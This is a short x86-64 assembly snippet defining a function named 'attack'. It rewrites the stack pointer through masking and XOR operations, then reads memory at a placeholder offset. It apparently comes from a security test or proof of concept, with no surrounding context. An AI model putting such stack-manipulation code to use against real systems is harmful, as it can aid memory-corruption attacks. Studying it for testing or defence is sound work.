function attack
    mov %rsp,%r11
    and $-0x1000000,%r11
    xor %rsp,%r11
    and $0xfffff8,%r11d
    xor %r11,%rsp
    mov -OFF(%rsp),%r11
    ret
